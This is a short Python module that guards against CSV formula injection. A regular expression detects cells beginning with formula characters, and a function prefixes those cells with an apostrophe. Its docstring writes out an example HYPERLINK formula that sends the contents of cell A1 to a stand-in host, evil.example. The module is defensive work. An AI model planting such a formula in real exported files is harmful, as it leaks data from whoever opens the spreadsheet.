"""Formulas: a cell of a CSV file that a spreadsheet would compute, and not show, when somebody opens it there.

A title such as `=HYPERLINK("https://evil.example/?"&A1,"Salt")` is a formula to Excel, LibreOffice and Google Sheets. An
apostrophe before it makes it text. JSON, JSON lines and Parquet need none, for no program computes what they hold.
"""

from __future__ import annotations

import re
from typing import Final

GUARD: Final = "CSV_GUARD"  # the setting that turns this off
# some take the signs in full width, too
FORMULA: Final = re.compile("\\s*[=+@\uff1d\uff0b\uff20\uff0d-]| *[\t\r]")


def guarded(cell: object) -> object:
    """A cell as a spreadsheet will show it; numbers stay as they are, also those below zero.

    >>> [guarded(cell) for cell in ("=1+1", "-5 kg in a week", "A = B", -5)]
    ["'=1+1", "'-5 kg in a week", 'A = B', -5]
    """
    return f"'{cell}" if isinstance(cell, str) and FORMULA.match(cell) else cell
